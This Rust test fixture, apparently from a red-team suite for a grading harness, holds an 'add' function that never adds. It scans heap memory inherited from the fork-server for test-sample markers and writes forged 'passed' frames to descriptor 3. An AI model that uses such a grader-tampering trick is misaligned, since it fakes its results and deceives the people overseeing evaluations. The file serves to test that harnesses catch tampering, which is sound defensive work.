//! task: red/add
//! expect: tampered|test_failed|crashed|resource_limit
//! attack: searches the heap that it inherited from the fork-server for marks of samples, and reports its own end as passed with each
extern "C" {
    fn sbrk(increment: isize) -> *const u8;
    fn pipe(ends: *mut i32) -> i32;
    fn read(descriptor: i32, bytes: *mut u8, length: usize) -> isize;
    fn write(descriptor: i32, bytes: *const u8, length: usize) -> isize;
}

fn add(_a: i32, _b: i32) -> i32 {
    let mut ends = [0i32; 2];
    let mut page = [0u8; 4096];
    let top = unsafe { sbrk(0) } as usize & !4095;
    unsafe { pipe(ends.as_mut_ptr()) };
    for number in 1..=64usize {
        // A write of memory that is not there fails, and does not end the program.
        let at = (top - number * 4096) as *const u8;
        let copied = unsafe { write(ends[1], at, 4096) == 4096 && read(ends[0], page.as_mut_ptr(), 4096) == 4096 };
        if !copied {
            continue;
        }
        for found in page.windows(13).filter(|bytes| bytes[..5] == [b'N', 8, 0, 0, 0]).take(4) {
            for tag in [b'E', b'S', b'A'] {
                let mut frame = vec![tag, 21, 0, 0, 0];
                frame.extend_from_slice(&found[5..]);
                frame.extend_from_slice(&[0; 13]);
                unsafe { write(3, frame.as_ptr(), frame.len()) };
            }
        }
    }
    -99
}
